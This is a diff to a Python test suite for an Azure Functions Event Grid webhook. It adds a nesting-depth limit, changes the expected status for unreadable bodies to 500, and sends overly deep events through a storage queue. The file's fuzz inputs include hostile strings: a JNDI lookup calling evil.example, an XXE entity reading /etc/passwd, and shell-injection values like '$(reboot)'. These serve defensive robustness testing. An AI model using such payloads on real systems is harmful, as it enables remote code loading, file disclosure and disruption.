@@ -71,6 +71,8 @@ NASTY = (
     *("${jndi:ldap://evil.example/a}", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "<script>"),
     *("$(reboot)", ";reboot", "|reboot", "*", ":", "a:b:c", ",", " ", "\t", "null", "__proto__", "x" * 300, "é" * 5000),
 )
+DEEPEST = 64
+"""Levels of nesting that the host reads: beyond them an event can reach us by a queue or by replay only."""
 FOREIGN = (
     WORKSPACE.replace("ws-credit", "ws-other"),
     WORKSPACE.replace("ws-credit", "ws-credit2"),
@@ -226,8 +228,25 @@ def broken(draw: st.DrawFn) -> bytes:
             return text.replace('"', "'").encode()
 
 
+def depth(value: object) -> int:
+    """How many arrays and objects are in each other."""
+    levels, level = 0, [value]
+    while containers := [item for item in level if isinstance(item, dict | list)]:
+        levels += 1
+        level = [member for item in containers for member in (item.values() if isinstance(item, dict) else item)]
+    return levels
+
+
+def is_unreadable(body: object) -> bool:
+    """Whether the host refuses the whole body: no event or array of events, or one nested too deep."""
+    events = body if isinstance(body, list) else [body]
+    return depth(body) > DEEPEST or not all(isinstance(event, dict) for event in events)
+
+
 def is_refused(event: object) -> bool:
-    """Whether Microsoft's own converter raises on this event, which is before any code of ours."""
+    """Whether the host or Microsoft's own converter raises on this event, which is before any code of ours."""
+    if is_unreadable([event]):
+        return True
     try:
         EventGridEventInConverter.decode(Datum(json.dumps(event), "json"), trigger_metadata={})
     except Exception:  # noqa: BLE001 - whatever it raises, the host answers 500
@@ -292,10 +311,10 @@ class Delivery:
             found = json.loads(body)
         except ValueError:
             found = None
-        events = [found] if isinstance(found, dict) else found
-        if not isinstance(events, list):
+        if is_unreadable(found):
             self.sent.unreadable += 1
-            return 400
+            return 500
+        events = [found] if isinstance(found, dict) else found
         refused = sum(map(is_refused, events))
         self.sent.refused += refused
         self.sent.accepted += len(events) - refused
@@ -351,12 +370,12 @@ def sent(host: FunctionHost, emulator_server: Emulator, azurite_server: Azurite)
 
 
 def test_every_answer_is_202_unless_the_body_or_the_converter_forbids(sent: Sent) -> None:
-    """400 for what is no JSON, 500 for what Microsoft's converter refuses (Event Grid keeps both), 202 for the rest."""
+    """500 for what the host or Microsoft's converter cannot read (Event Grid keeps it in the end), 202 for the rest."""
     assert sent.events >= 2_000
     wrong_answers = {pair: sent.examples[pair][:2_000] for pair in sent.answers if pair[0] != pair[1]}
     assert wrong_answers == {}
-    assert sent.unreadable >= 100
-    assert sent.refused >= 50
+    assert sent.unreadable >= 200
+    assert sent.refused >= 10
     assert sent.accepted >= 1_500
 
 
@@ -421,12 +440,19 @@ def escaped(targets: Iterable[Target], port: int) -> list[str]:
     return [path for path in paths if not KNOWN_TARGET.fullmatch(path)]
 
 
+def post(deployment: Deployment, body: bytes) -> int:
+    """Deliver a body as Event Grid does and return the status."""
+    headers = {"aeg-event-type": "Notification"}
+    return deployment.host.session.post(deployment.host.webhook, body, headers=headers, timeout=60).status_code
+
+
 def end_of(deployment: Deployment, **members: object) -> dict[str, Any]:
     """Deliver one event and give the first line that says how an attempt at it ended, even a deferral."""
     event = {**json.loads(run_completed("creditrisk_train")), **members}
-    headers = {"aeg-event-type": "Notification"}
-    answer = deployment.host.session.post(deployment.host.webhook, json.dumps([event]), headers=headers, timeout=60)
-    assert answer.status_code == 202
+    status = post(deployment, json.dumps([event]).encode())
+    assert status == (202 if depth([event]) <= DEEPEST else 500)
+    if status == 500:  # Event Grid can put it on the queue itself
+        deployment.storage.queue().send_message(json.dumps(event))
     lines: list[dict[str, Any]] = []
 
     def has_ended() -> bool:
@@ -491,7 +517,7 @@ def test_name_with_a_lone_surrogate_is_dead_lettered_at_once(
     ],
 )
 def test_deeply_nested_event_ends_as_any_other(deployment: Deployment, member: str, depth: int) -> None:
-    """As deep as Microsoft's converter follows, whether in what we read or in what we drop."""
+    """As deep as Python's reader follows, by way of the queue, whether in what we read or in what we drop."""
     line = end_of(deployment, data={"runId": "creditrisk_train", member: nested(depth)})
     assert line["outcome"] == ("dead_lettered" if member == "runId" else "published")
 
@@ -499,7 +525,5 @@ def test_deeply_nested_event_ends_as_any_other(deployment: Deployment, member: s
 def test_nesting_beyond_every_parser_does_no_harm(deployment: Deployment) -> None:
     """Refused before our code, and the next event is taken."""
     body = b"[" * 100_000 + b"]" * 100_000
-    headers = {"aeg-event-type": "Notification"}
-    answer = deployment.host.session.post(deployment.host.webhook, body, headers=headers, timeout=60)
-    assert answer.status_code in (400, 500)
+    assert post(deployment, body) == 500
     assert end_of(deployment)["outcome"] == "published"
